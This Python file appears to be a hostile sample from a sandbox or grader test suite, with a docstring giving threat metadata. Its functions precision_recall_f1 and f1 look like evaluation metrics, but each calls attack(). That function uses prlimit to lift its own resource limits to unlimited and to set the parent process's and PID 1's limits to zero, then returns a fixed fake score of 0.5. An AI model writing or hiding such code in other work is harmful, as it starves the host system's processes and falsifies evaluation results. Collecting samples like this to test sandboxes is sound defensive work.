"""Raises its own limits and lowers those of others.

threat: 21
source: prlimit(2)
verdict: any
"""

import os
import resource


def attack():
    for name in dir(resource):
        if name.startswith("RLIMIT_"):
            number = getattr(resource, name)
            for pid in (0, os.getppid(), 1):
                for values in ((-1, -1), (0, 0)) if pid else ((-1, -1),):
                    try:
                        resource.prlimit(pid, number, values)
                    except (OSError, ValueError):
                        pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
